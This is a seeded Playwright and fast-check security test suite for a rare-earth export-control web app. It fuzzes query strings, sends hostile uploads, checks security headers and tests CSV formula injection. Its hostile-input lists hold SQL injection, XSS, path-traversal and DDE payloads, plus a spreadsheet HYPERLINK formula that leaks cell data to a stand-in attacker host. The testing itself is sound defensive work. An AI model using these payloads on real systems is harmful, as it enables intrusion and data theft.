import http from "node:http";
import { expect, test } from "@playwright/test";
import fc from "fast-check";
import Papa from "papaparse";
import regimesFile from "../data/regimes.json";
import { seededRandom } from "../lib/engine/synthesize-dataset";

/*
 * Hostile input against the production build: fuzzed query strings on every GET route, hostile uploads to
 * POST /api/bom, security headers on every kind of response, and formula injection in every CSV the app writes.
 * Everything is seeded (fast-check seed, mulberry32), so a failure reproduces run after run.
 */

const SEED = 20_251_125;
const FUZZ_REQUESTS = 3000;
const CONCURRENCY = 8;
/** Node's HTTP parser refuses request heads over 16 KB with 431 before the app sees them; the fuzz stays below. */
const MAX_QUERY_CHARS = 12_000;

const SCENARIO_PARAMS = ["regime", "asOf", "controlled", "threshold", "reading", "military", "extraterritorial", "exclusions", "chinaShare"];

type Route = { path: string; params: string[]; share: number; formats?: string[] };
const GET_ROUTES: Route[] = [
  { path: "/api/exposure", params: SCENARIO_PARAMS, share: 0.3 },
  { path: "/api/report", params: [...SCENARIO_PARAMS, "format"], share: 0.25, formats: ["csv", "json"] },
  { path: "/api/regimes", params: [], share: 0.15 },
  { path: "/api/dataset", params: [], share: 0.1 },
  { path: "/api/bom/template", params: [], share: 0.2 },
];

// ---- the generator -------------------------------------------------------------------------------------------------

const GOOD_VALUES = [
  "apr-2025", "oct-2025", "breakdown", "as-of-today", "pre-2025-04", "2025-06-01", "2026-12-01", "Dy,Tb", "dy,TB", "none",
  "Sc,Y,Sm,Gd,Tb,Dy,Lu", "0.1", "0.5", "100", "0", "annex", "broad", "license", "deny", "on", "off", "apply", "ignore",
  "Dy:50", "all:60", "Dy:50,Tb:30", "csv", "json",
];
const BAD_VALUES = [
  "", " ", "nope", "APR-2025", "2025-02-30", "2025-13-01", "1999-12-31", "2101-01-01", "-1", "101", "1e309", "1e-400", "NaN",
  "Infinity", "-0", "0x10", " 1 ", "1,5", "Dy,", ",", "Dy,,Tb", "Xx", "Dy:", ":50", "Dy:50:1", "all:", "all:-5", "Dy:101",
  "pdf ", "doc", "CSV", "null", "undefined", "[]", "{}", "true", "__proto__", "constructor", "toString", "hasOwnProperty",
];
const HOSTILE_VALUES = [
  "' OR 1=1 --", "1; DROP TABLE products;--", "\" OR \"\"=\"", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
  "javascript:alert(1)", "${7*7}", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%00", "a\u0000b",
  "\u202eevil", "\ufeff", "\ud800", "\udfff", "𝔇𝔶", "ДЫ", "镝", "🧲🧲", "=HYPERLINK(\"http://x\")", "+1+1", "-1+1", "@SUM(A1)",
  "\t=1", "\r\n", "\n", "%", "%%", "%ZZ", "%E0%A4", "%C0%AF", "%FF%FE", "%ED%A0%80", "%F4%90%80%80", "%0A%0D", "+", "&", "=", "==",
  ";", "?", "/", "\\", "'", "\"", "`",
];
const UNKNOWN_NAMES = [
  "format", "colour", "REGIME", "Regime", "regime ", " regime", "regime[]", "regime[0]", "regime.x", "__proto__", "constructor",
  "prototype", "_rsc", "__nextDataReq", "nxtPregime", "x-middleware-prefetch", "product", "sector", "", "%ZZ", "%00", "a%00b",
  "<script>", "' OR 1=1 --", "镝", "🧲",
];

/** Percent-encodes every UTF-16 code unit it must; a lone surrogate becomes its (invalid) 3-byte UTF-8 form. */
function encode(s: string): string {
  let out = "";
  for (let i = 0; i < s.length; i += 1) {
    const c = s.charCodeAt(i);
    if (c >= 0xd800 && c <= 0xdbff && i + 1 < s.length) {
      const d = s.charCodeAt(i + 1);
      if (d >= 0xdc00 && d <= 0xdfff) {
        out += encodeURIComponent(s.slice(i, i + 2));
        i += 1;
        continue;
      }
    }
    if (c >= 0xd800 && c <= 0xdfff) {
      out += [0xe0 | (c >> 12), 0x80 | ((c >> 6) & 0x3f), 0x80 | (c & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join("");
    } else {
      out += encodeURIComponent(s[i]!);
    }
  }
  return out;
}

/** A value as it goes into the URL: percent-encoded, or raw (the URL parser keeps %ZZ and encodes what it must). */
const valueArb = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...GOOD_VALUES).map(encode) },
  { weight: 3, arbitrary: fc.constantFrom(...BAD_VALUES).map(encode) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_VALUES).chain((v) => fc.constantFrom(encode(v), v)) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }).map(encode) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 20 }).map(encode) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }).map(encode) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom("%", "Z", "0", "E", "F", "&", "=", "+", "a", "%2", "%C3"), maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom("a", "Dy,", "Dy:1,", "%41", "9", "镝", "%ZZ"), fc.integer({ min: 200, max: 3000 }))
      .map(([unit, n]) => (unit === "镝" ? encode(unit.repeat(n)) : unit.repeat(n))),
  },
);

const pairArb = (known: string[]) =>
  fc.tuple(
    known.length > 0
      ? fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...known) }, { weight: 2, arbitrary: fc.constantFrom(...UNKNOWN_NAMES).map(encode) }, { weight: 1, arbitrary: fc.string({ maxLength: 12 }).map(encode) })
      : fc.oneof(fc.constantFrom(...SCENARIO_PARAMS), fc.constantFrom(...UNKNOWN_NAMES).map(encode), fc.string({ maxLength: 12 }).map(encode)),
    valueArb,
    fc.constantFrom("=", "=", "=", "", "==", "=%3D"),
  );

const GOOD_BY_PARAM: Record<string, string[]> = {
  regime: ["pre-2025-04", "apr-2025", "oct-2025", "post-suspension-2025-11", "as-of-today", "extended-pause", "partial-rollback", "breakdown"],
  asOf: ["2025-06-01", "2025-12-01", "2026-12-01", "2024-01-01", "2100-12-31"],
  controlled: ["Dy,Tb", "none", "NONE", "Sc,Y,Sm,Gd,Tb,Dy,Lu", "dy, tb", "Nd", "Dy,Dy"],
  threshold: ["0.1", "0.5", "0", "100", "2", " 1 ", ".5", "1e-1"],
  reading: ["annex", "broad", "BROAD"],
  military: ["license", "deny"],
  extraterritorial: ["on", "off"],
  exclusions: ["apply", "ignore"],
  chinaShare: ["Dy:50", "all:60", "Dy:50,Tb:30", "all:0", "all:100,Dy:0"],
};

/** A query the route accepts: regime or asOf, plus other parameters with good values, each once (in any order). */
const validPairsArb = (route: Route) =>
  route.params.length === 0
    ? fc.constant([] as string[])
    : fc
        .tuple(
          fc.constantFrom("regime", "asOf"),
          fc.subarray(route.params.filter((p) => p !== "regime" && p !== "asOf" && p !== "format" && GOOD_BY_PARAM[p])),
          fc.nat(),
        )
        .chain(([first, rest, salt]) =>
          fc
            .tuple(...[first, ...rest].map((name) => fc.constantFrom(...GOOD_BY_PARAM[name]!).map((v) => `${name}=${encode(v)}`)))
            .map((pairs) => (salt % 3 === 0 ? [...pairs].reverse() : pairs)),
        );

/** A whole query string: valid ones, valid ones with one hostile change, and random ones (known names with random
 *  values, unknown names, repeats, odd separators). */
const queryArb = (route: Route) =>
  fc
    .tuple(
      fc.oneof(
        { weight: 3, arbitrary: validPairsArb(route).map((pairs) => ({ pairs, sep: "&" })) },
        {
          weight: 3,
          arbitrary: fc
            .tuple(validPairsArb(route), pairArb(route.params), fc.nat(), fc.boolean())
            .map(([pairs, [k, v, eq], at, replace]) => {
              const out = [...pairs];
              const hostile = eq === "" ? k : `${k}${eq}${v}`;
              if (replace && out.length > 0) out[at % out.length] = `${out[at % out.length]!.split("=")[0]}=${v}`;
              else out.splice(at % (out.length + 1), 0, hostile);
              return { pairs: out, sep: "&" };
            }),
        },
        {
          weight: 4,
          arbitrary: fc
            .tuple(
              fc.array(pairArb(route.params), { minLength: 0, maxLength: route.params.length > 0 ? 7 : 2 }),
              fc.constantFrom("&", "&", "&", "&&", ";", "&amp;"),
            )
            .map(([pairs, sep]) => ({ pairs: pairs.map(([k, v, eq]) => (eq === "" ? k : `${k}${eq}${v}`)), sep })),
        },
      ),
      fc.boolean(),
      fc.boolean(),
    )
    .map(([{ pairs, sep }, repeat, trailing]) => {
      const parts = [...pairs];
      if (repeat && parts.length > 0 && sep !== "&") parts.push(parts[0]!);
      let q = parts.join(sep) + (trailing && sep !== "&" ? sep : "");
      if (route.formats) {
        // The high-volume loop asks for CSV and JSON reports; a few PDFs are asked for separately below.
        q = q.replace(/(^|[&;])format=pdf/gi, "$1format=csv");
        if (!/(^|[&;])format=/.test(q)) q += `${q ? "&" : ""}format=${route.formats[q.length % route.formats.length]}`;
      }
      return q.length > MAX_QUERY_CHARS ? q.slice(0, MAX_QUERY_CHARS) : q;
    });

function buildRequests(routes: Route[], total: number): { route: Route; url: string }[] {
  const out: { route: Route; url: string }[] = [];
  routes.forEach((route, i) => {
    const n = Math.round((total * route.share) / routes.reduce((s, r) => s + r.share, 0));
    for (const q of fc.sample(queryArb(route), { seed: SEED + i, numRuns: n })) out.push({ route, url: `${route.path}?${q}` });
  });
  return out;
}

// ---- checking answers ----------------------------------------------------------------------------------------------

type Failure = { url: string; status: number; problem: string; body: string };

/** The API's contract for a bad request: 4xx with JSON `{ error: { param, message } }` and a message that says something. */
async function checkAnswer(url: string, res: Response, failures: Failure[]): Promise<number> {
  const status = res.status;
  const text = await res.text();
  const fail = (problem: string) => failures.push({ url: url.slice(0, 300), status, problem, body: text.slice(0, 300) });
  if (status >= 500) fail("5xx");
  else if (status >= 400) {
    if (!(res.headers.get("content-type") ?? "").includes("application/json")) fail(`4xx with content-type ${res.headers.get("content-type")}`);
    try {
      const body = JSON.parse(text) as { error?: { param?: unknown; message?: unknown } };
      if (typeof body.error?.param !== "string") fail("4xx without error.param");
      if (typeof body.error?.message !== "string" || body.error.message.trim() === "") fail("4xx without a message");
    } catch {
      fail("4xx body is not JSON");
    }
  } else if ((res.headers.get("content-type") ?? "").includes("application/json")) {
    try {
      JSON.parse(text);
    } catch {
      fail("2xx JSON body does not parse");
    }
  }
  return status;
}

async function pool<T>(items: T[], concurrency: number, work: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      while (next < items.length) {
        const item = items[next++]!;
        await work(item);
      }
    }),
  );
}

async function routeExists(baseURL: string, path: string): Promise<boolean> {
  const res = await fetch(`${baseURL}${path}`);
  await res.arrayBuffer();
  return res.status !== 404;
}

// ---- 1. fuzzed query strings on every GET route ----------------------------------------------------------------------

test.describe("fuzzed query strings", () => {
  test(`${FUZZ_REQUESTS} random and malformed query strings on every GET route: no 5xx, every 4xx a JSON error with a message`, async ({ baseURL }, testInfo) => {
    test.setTimeout(180_000);
    const routes: Route[] = [];
    // Every route must exist: a route that answers 404 would let the fuzzing pass while testing nothing.
    for (const r of GET_ROUTES) {
      expect(await routeExists(baseURL!, r.path), `${r.path} exists`).toBe(true);
      routes.push(r);
    }
    const requests = buildRequests(routes, FUZZ_REQUESTS);
    const failures: Failure[] = [];
    const statuses = new Map<string, number>();
    const started = Date.now();
    await pool(requests, CONCURRENCY, async ({ route, url }) => {
      let status: number;
      try {
        status = await checkAnswer(url, await fetch(`${baseURL}${url}`), failures);
      } catch (e) {
        failures.push({ url: url.slice(0, 300), status: 0, problem: `request failed: ${String(e)}`, body: "" });
        status = 0;
      }
      const key = `${route.path} ${status}`;
      statuses.set(key, (statuses.get(key) ?? 0) + 1);
    });
    const summary = [...statuses].sort().map(([k, n]) => `${k}: ${n}`).join(", ");
    testInfo.annotations.push({ type: "fuzz", description: `${requests.length} requests in ${Date.now() - started} ms; ${summary}` });
    console.log(`fuzz: ${requests.length} requests in ${Date.now() - started} ms; ${summary}`);
    expect(failures.slice(0, 20)).toEqual([]);
    // The fuzz must reach both sides of every scenario route, or it is not testing much.
    for (const r of routes.filter((x) => x.params.length > 0)) {
      expect(statuses.get(`${r.path} 200`) ?? 0, `${r.path} answered no 200`).toBeGreaterThan(10);
      expect(statuses.get(`${r.path} 400`) ?? 0, `${r.path} answered no 400`).toBeGreaterThan(10);
    }
  });

  test("fuzzed PDF reports: no 5xx, every 4xx a JSON error", async ({ baseURL }) => {
    test.setTimeout(60_000);
    const route: Route = { path: "/api/report", params: [...SCENARIO_PARAMS], share: 1 };
    const queries = fc.sample(queryArb(route), { seed: SEED + 99, numRuns: 12 });
    const failures: Failure[] = [];
    const statuses: number[] = [];
    for (const q of [...queries, "regime=apr-2025", "regime=breakdown&controlled=Dy,Tb&chinaShare=all:60&reading=broad"]) {
      const url = `/api/report?${q}${q ? "&" : ""}format=pdf`;
      const res = await fetch(`${baseURL}${url}`);
      statuses.push(await checkAnswer(url, res, failures));
    }
    expect(failures).toEqual([]);
    expect(statuses.filter((s) => s === 200).length).toBeGreaterThanOrEqual(2);
  });

  test("an over-long URL (20 KB) is refused by the HTTP server, not answered with a 5xx", async ({ baseURL }) => {
    const res = await fetch(`${baseURL}/api/exposure?regime=${"a".repeat(20_000)}`);
    await res.arrayBuffer();
    // Node's HTTP parser answers 431 before the app runs; what matters is that it is not a server error.
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });
});

// ---- 2. hostile uploads to POST /api/bom (needs app/api/bom) ---------------------------------------------------------

const TEMPLATE_HEADER = "part_id,description,unit_value_usd,element,grams_per_unit,form,china_origin_share,end_use,made_in";
const GOOD_ROW = "MAG-1,NdFeB magnet set,90,Dy,45,ndfeb_magnet,100%,civil,china";

type Upload = { name: string; body: Uint8Array | string; contentType?: string };

function seededBytes(n: number, seed: number): Uint8Array {
  const random = seededRandom(seed);
  const out = new Uint8Array(n);
  for (let i = 0; i < n; i += 1) out[i] = Math.floor(random() * 256);
  return out;
}

const bytes = (...xs: number[]) => new Uint8Array(xs);
const concat = (...parts: (string | Uint8Array)[]) => {
  const arrays = parts.map((p) => (typeof p === "string" ? new TextEncoder().encode(p) : p));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let o = 0;
  for (const a of arrays) {
    out.set(a, o);
    o += a.length;
  }
  return out;
};

const MALFORMED_UPLOADS: Upload[] = [
  { name: "empty body", body: "" },
  { name: "only a byte-order mark", body: "\ufeff" },
  { name: "only whitespace and line breaks", body: " \r\n\t\r\n\n" },
  { name: "random binary bytes (seeded)", body: seededBytes(64 * 1024, SEED) },
  { name: "an xlsx (zip) header", body: concat(bytes(0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00), seededBytes(2048, SEED + 1)) },
  { name: "a PNG", body: concat(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a), seededBytes(512, SEED + 2)) },
  { name: "invalid UTF-8 (lone continuation bytes)", body: concat(`${TEMPLATE_HEADER}\r\nMAG-1,`, bytes(0x80, 0xbf), ",90,Dy,45,ndfeb_magnet,1,civil,china\r\n") },
  { name: "invalid UTF-8 (Windows-1252 é)", body: concat(`${TEMPLATE_HEADER}\r\nMAG-1,Aimant `, bytes(0xe9), ",90,Dy,45,ndfeb_magnet,1,civil,china\r\n") },
  { name: "invalid UTF-8 (overlong /, surrogate, > U+10FFFF)", body: concat(`${TEMPLATE_HEADER}\r\n`, bytes(0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf4, 0x90, 0x80, 0x80), "\r\n") },
  { name: "truncated UTF-8 at the end", body: concat(`${TEMPLATE_HEADER}\r\n${GOOD_ROW}\r\n`, bytes(0xe9, 0x95)) },
  { name: "UTF-16 LE with a byte-order mark", body: concat(bytes(0xff, 0xfe), new Uint8Array(new Uint16Array([...`${TEMPLATE_HEADER}\r\n`].map((c) => c.charCodeAt(0))).buffer)) },
  { name: "a NUL byte inside a cell", body: `${TEMPLATE_HEADER}\r\nMAG\u0000-1,x,90,Dy,45,ndfeb_magnet,1,civil,china\r\n` },
  { name: "JSON instead of CSV", body: JSON.stringify({ parts: [{ part_id: "MAG-1", element: "Dy", grams_per_unit: 45 }] }), contentType: "text/csv" },
  { name: "a JSON array instead of CSV", body: JSON.stringify([[TEMPLATE_HEADER.split(",")], GOOD_ROW.split(",")]) },
  { name: "HTML instead of CSV", body: "<!doctype html><html><body><script>alert(1)</script></body></html>" },
  { name: "a header row only", body: `${TEMPLATE_HEADER}\r\n` },
  { name: "missing required columns", body: "part_id,description\r\nMAG-1,magnet\r\n" },
  { name: "a single column of text", body: "hello\r\nworld\r\n" },
  { name: "an unterminated quote", body: `${TEMPLATE_HEADER}\r\n"MAG-1,x,90,Dy,45,ndfeb_magnet,1,civil,china\r\n${GOOD_ROW}\r\n` },
  { name: "rows with too many and too few cells", body: `${TEMPLATE_HEADER}\r\n${GOOD_ROW},extra,extra\r\nMAG-2,x\r\n` },
  { name: "every cell wrong", body: `${TEMPLATE_HEADER}\r\n,,-5,Fe,-1,plutonium,150%,evil,mars\r\nMAG-1,x,abc,Dy,1e999,ndfeb_magnet,2,civil,abroad\r\n` },
  { name: "a duplicate header", body: `${TEMPLATE_HEADER},part_id\r\n${GOOD_ROW},OTHER\r\n` },
  { name: "semicolons and decimal commas", body: `${TEMPLATE_HEADER.replaceAll(",", ";")}\r\nMAG-1;x;90,5;Dy;45,0;ndfeb_magnet;1;civil;china\r\n` },
  { name: "a 1 MB line without a line break", body: `${TEMPLATE_HEADER}\r\n${"A".repeat(1_000_000)}` },
  { name: "10,000 columns", body: `${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(",")}\r\n${"x,".repeat(9_999)}x\r\n` },
  { name: "50,000 blank lines after the header", body: `${TEMPLATE_HEADER}${"\r\n".repeat(50_000)}` },
  { name: "5,000 rows of errors (more than are listed)", body: `${TEMPLATE_HEADER}\r\n${"BAD,x,abc,Xx,-1,nope,2,none,nowhere\r\n".repeat(5_000)}` },
  { name: "formula and script payloads in the cells", body: `${TEMPLATE_HEADER}\r\n=HYPERLINK("http://x"),<img src=x onerror=alert(1)>,90,Dy,45,ndfeb_magnet,1,civil,china\r\n` },
  { name: "unicode everywhere", body: `${TEMPLATE_HEADER}\r\n镝-1,𝔇𝔶 🧲 \u202emagnet,90,Dy,45,ndfeb_magnet,100%,civil,china\r\n` },
  { name: "text/plain with a charset (refused: another site can send it without a preflight)", body: `${TEMPLATE_HEADER}\r\n${GOOD_ROW}\r\n`, contentType: "text/plain; charset=utf-8" },
];

type BomAnswer = { status: number; text: string; json: unknown; connection?: string | null };

async function postBom(baseURL: string, body: BodyInit, contentType: string | null, query = "regime=apr-2025"): Promise<BomAnswer> {
  const headers: Record<string, string> = contentType === null ? {} : { "Content-Type": contentType };
  const res = await fetch(`${baseURL}/api/bom?${query}`, { method: "POST", body, headers, ...(body instanceof ReadableStream ? { duplex: "half" } : {}) } as RequestInit);
  const text = await res.text();
  let json: unknown = null;
  try {
    json = JSON.parse(text);
  } catch {
    /* not JSON */
  }
  return { status: res.status, text, json, connection: res.headers.get("connection") };
}

type HttpOptions = { method?: string; headers?: Record<string, string>; agent: http.Agent | false; body?: (req: http.ClientRequest) => Promise<void> };

/** A request through node:http, for what fetch cannot control: the connection (agent) and a chunked body. */
function httpRequest(baseURL: string, path: string, opts: HttpOptions): Promise<BomAnswer> {
  return new Promise((resolve, reject) => {
    const req = http.request(`${baseURL}${path}`, { method: opts.method ?? "GET", headers: opts.headers, agent: opts.agent }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c: Buffer) => chunks.push(c));
      res.on("end", () => {
        const text = Buffer.concat(chunks).toString("utf8");
        let json: unknown = null;
        try {
          json = JSON.parse(text);
        } catch {
          /* not JSON */
        }
        resolve({ status: res.statusCode ?? 0, text, json, connection: res.headers.connection ?? null });
      });
      res.on("error", reject);
    });
    req.on("error", reject);
    if (opts.body) opts.body(req).then(() => req.end(), () => req.end());
    else req.end();
  });
}

/** POSTs 51 MB of CSV rows with Transfer-Encoding: chunked (no Content-Length), stopping early once the server answers. */
function streamOversized(baseURL: string, agent: http.Agent | false): Promise<BomAnswer> {
  const chunk = Buffer.from(`${GOOD_ROW}\r\n`.repeat(16_384));
  const total = 51 * 1024 * 1024;
  return httpRequest(baseURL, "/api/bom?regime=apr-2025", {
    method: "POST",
    agent,
    headers: { "Content-Type": "text/csv", "Transfer-Encoding": "chunked" },
    body: async (req) => {
      let answered = false;
      req.on("response", () => (answered = true));
      req.write(`${TEMPLATE_HEADER}\r\n`);
      for (let sent = 0; sent < total && !answered && !req.destroyed; sent += chunk.length) {
        if (!req.write(chunk)) {
          await new Promise<void>((resolve) => {
            const done = () => {
              req.off("drain", done).off("close", done);
              resolve();
            };
            req.on("drain", done).on("close", done);
          });
        }
      }
    },
  });
}

function expectJsonError(a: BomAnswer, what: string) {
  expect(a.status, `${what}: ${a.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(a.status, what).toBeLessThan(500);
  const error = (a.json as { error?: { param?: unknown; message?: unknown } } | null)?.error;
  expect(typeof error?.param, `${what}: error.param`).toBe("string");
  expect(typeof error?.message === "string" && error.message.trim().length > 0, `${what}: error.message`).toBe(true);
}

test.describe("POST /api/bom with hostile uploads (needs app/api/bom)", () => {
  test("a 51 MB upload with a Content-Length: 413 with a message", async ({ baseURL }) => {
    test.setTimeout(60_000);
    const big = new Uint8Array(51 * 1024 * 1024).fill(0x41);
    const a = await postBom(baseURL!, big, "text/csv");
    expectJsonError(a, "51 MB with Content-Length");
    expect(a.status).toBe(413);
  });

  test("a 51 MB upload streamed without a Content-Length (chunked): 413 with a message", async ({ baseURL }) => {
    test.setTimeout(60_000);
    // On its own connection (agent: false), so that this test does not depend on how the server ends it.
    const a = await streamOversized(baseURL!, false);
    expectJsonError(a, "51 MB streamed");
    expect(a.status).toBe(413);
    // The body was not read to its end, so the connection cannot be reused: the answer must say so. (Without it the
    // server resets the connection after the 413 and a client's next request on it fails, as the next test checks.)
    expect(a.connection).toBe("close");
  });

  // Found by this file: a 413 sent with "Connection: keep-alive" was followed by a reset of that connection; the
  // route now answers 413 with "Connection: close", so a client opens a fresh connection for its next request.
  test("after a refused streamed upload, the next request on the same keep-alive connection is answered", async ({ baseURL }) => {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const first = await streamOversized(baseURL!, agent);
    expect(first.status).toBe(413);
    const next = await httpRequest(baseURL!, "/api/regimes", { agent });
    expect(next.status).toBe(200);
    agent.destroy();
  });

  for (const upload of MALFORMED_UPLOADS) {
    test(`malformed upload, ${upload.name}: a 4xx with a message, or a 200 listing the row errors; never a 5xx`, async ({ baseURL }) => {
      const a = await postBom(baseURL!, upload.body as BodyInit, upload.contentType ?? "text/csv");
      expect(a.status, a.text.slice(0, 300)).toBeLessThan(500);
      if (a.status >= 400) {
        expectJsonError(a, upload.name);
        return;
      }
      expect(a.status).toBe(200);
      const report = a.json as { parts?: unknown[]; errors?: { row: number; message: string }[]; errorCount?: number } | null;
      expect(report, "a 200 answers the JSON report").not.toBeNull();
      expect(Array.isArray(report!.parts)).toBe(true);
      expect(Array.isArray(report!.errors)).toBe(true);
      for (const e of report!.errors!) expect(e.message.trim().length).toBeGreaterThan(0);
    });
  }

  test("wrong or missing media type: 415 with a message", async ({ baseURL }) => {
    // Bytes, not a string: fetch gives a string body a text/plain type of its own.
    const csv = new TextEncoder().encode(`${TEMPLATE_HEADER}\r\n${GOOD_ROW}\r\n`);
    for (const type of [null, "application/json", "multipart/form-data; boundary=x", "text/csv; charset=latin1", "image/png", "text/plain"]) {
      const a = await postBom(baseURL!, csv, type);
      expectJsonError(a, `Content-Type ${type}`);
      expect(a.status, `Content-Type ${type}`).toBe(415);
    }
  });

  test("200 random CSV-like bodies (seeded): never a 5xx, every 4xx a JSON error", async ({ baseURL }) => {
    test.setTimeout(90_000);
    const cellArb = fc.oneof(
      fc.constantFrom("MAG-1", "Dy", "Tb", "Nd", "45", "90", "100%", "0.5", "ndfeb_magnet", "alloy", "civil", "military", "china", "abroad", ""),
      fc.constantFrom(...HOSTILE_VALUES, ...BAD_VALUES),
      fc.string({ maxLength: 20 }),
      fc.string({ unit: "binary", maxLength: 10 }),
    );
    const rowArb = fc.array(cellArb, { minLength: 0, maxLength: 12 }).map((cells) => cells.join(","));
    const bodyArb = fc
      .tuple(fc.boolean(), fc.array(rowArb, { maxLength: 30 }), fc.constantFrom("\r\n", "\n", "\r"))
      .map(([withHeader, rows, nl]) => (withHeader ? [TEMPLATE_HEADER, ...rows] : rows).join(nl));
    const bodies = fc.sample(bodyArb, { seed: SEED + 7, numRuns: 200 });
    const failures: Failure[] = [];
    // One at a time: the server checks at most two uploads at once (a third is answered 503), and another test
    // may hold the other slot. A 503 with Retry-After is that documented answer, so the body is sent again.
    await pool(bodies, 1, async (body) => {
      let res = await fetch(`${baseURL}/api/bom?regime=oct-2025`, { method: "POST", body, headers: { "Content-Type": "text/csv" } });
      for (let retry = 0; res.status === 503 && res.headers.get("retry-after") && retry < 20; retry += 1) {
        await res.arrayBuffer();
        await new Promise((r) => setTimeout(r, 250));
        res = await fetch(`${baseURL}/api/bom?regime=oct-2025`, { method: "POST", body, headers: { "Content-Type": "text/csv" } });
      }
      await checkAnswer(`POST /api/bom body ${JSON.stringify(body.slice(0, 120))}`, res, failures);
    });
    expect(failures.slice(0, 10)).toEqual([]);
  });
});

// ---- 3. security headers on every kind of response -----------------------------------------------------------------

const HEADER_PATHS = [
  "/",
  "/methodology",
  "/api/exposure?regime=apr-2025",
  "/api/exposure?regime=nope",
  "/api/dataset",
  "/this-page-does-not-exist",
  "/api/report?regime=apr-2025&format=csv",
];

test.describe("security headers", () => {
  for (const path of HEADER_PATHS) {
    test(`${path}: CSP without 'unsafe-eval' or inline scripts, frame-ancestors 'none', nosniff, Referrer-Policy, Permissions-Policy`, async ({ baseURL }) => {
      const res = await fetch(`${baseURL}${path}`);
      await res.arrayBuffer();
      if (path === "/this-page-does-not-exist") expect(res.status).toBe(404);
      else if (path.includes("regime=nope")) expect(res.status).toBe(400);
      else expect(res.status).toBe(200);
      const csp = res.headers.get("content-security-policy");
      expect(csp, "Content-Security-Policy").toBeTruthy();
      expect(csp).not.toContain("'unsafe-eval'");
      expect(csp!.split(";").find((d) => d.trim().startsWith("script-src"))).not.toContain("'unsafe-inline'");
      expect(res.headers.get("permissions-policy")).toContain("camera=()");
      expect(csp).toMatch(/(^|;)\s*frame-ancestors 'none'\s*(;|$)/);
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("referrer-policy")).toBeTruthy();
    });
  }
});

// ---- 4. formula injection in every CSV the app produces ------------------------------------------------------------

const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** Every cell of a CSV that a spreadsheet would read as a formula: starts with = + - @ tab or CR and is not a number. */
function liveFormulas(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { header: false, skipEmptyLines: false });
  const bad: string[] = [];
  parsed.data.forEach((row, r) =>
    row.forEach((cell, c) => {
      if (FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell)) bad.push(`row ${r + 1} col ${c + 1}: ${JSON.stringify(cell.slice(0, 60))}`);
    }),
  );
  return bad;
}

const REPORT_SCENARIOS = [
  ...regimesFile.regimes.map((r) => `regime=${r.id}`),
  "asOf=2027-01-01",
  "regime=breakdown&controlled=none",
  "regime=oct-2025&controlled=Sc,Y,La,Ce,Pr,Nd,Pm,Sm,Eu,Gd,Tb,Dy,Ho,Er,Tm,Yb,Lu&reading=broad&threshold=0&exclusions=ignore",
  "regime=apr-2025&chinaShare=all:0&military=license&extraterritorial=on",
];

const INJECTION_CELLS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "=cmd|' /C calc'!A0",
  "-",
  "+",
  "=\n=1",
];

test.describe("formula injection", () => {
  for (const q of REPORT_SCENARIOS) {
    test(`report CSV for ${q}: no live formula in any cell`, async ({ baseURL }) => {
      const res = await fetch(`${baseURL}/api/report?${q}&format=csv`);
      expect(res.status).toBe(200);
      expect(liveFormulas(await res.text())).toEqual([]);
    });
  }

  test("BOM template CSV: no live formula in any cell", async ({ baseURL }) => {
    const res = await fetch(`${baseURL}/api/bom/template`);
    expect(liveFormulas(await res.text())).toEqual([]);
  });

  test("BOM CSV report (needs app/api/bom): formula payloads in every text cell come back neutralised", async ({ baseURL }) => {
    const rows = INJECTION_CELLS.flatMap((payload, i) => {
      const q = (s: string) => `"${s.replaceAll('"', '""')}"`;
      return [
        // The payload as part id and description of a valid part, and as an invalid value (echoed in the error list).
        [q(payload + i), q(payload), "90", "Dy", "45", "ndfeb_magnet", "100%", "civil", "china"].join(","),
        [q(`P${i}`), q(payload), q(payload), q(payload), q(payload), q(payload), q(payload), q(payload), q(payload)].join(","),
      ];
    });
    const csv = `${TEMPLATE_HEADER}\r\n${rows.join("\r\n")}\r\n`;
    for (const query of ["regime=apr-2025&format=csv", "regime=breakdown&reading=broad&format=csv"]) {
      const res = await fetch(`${baseURL}/api/bom?${query}`, { method: "POST", body: csv, headers: { "Content-Type": "text/csv" } });
      expect(res.status, await res.clone().text()).toBe(200);
      const text = await res.text();
      expect(text).toContain("HYPERLINK");
      expect(liveFormulas(text)).toEqual([]);
    }
  });
});
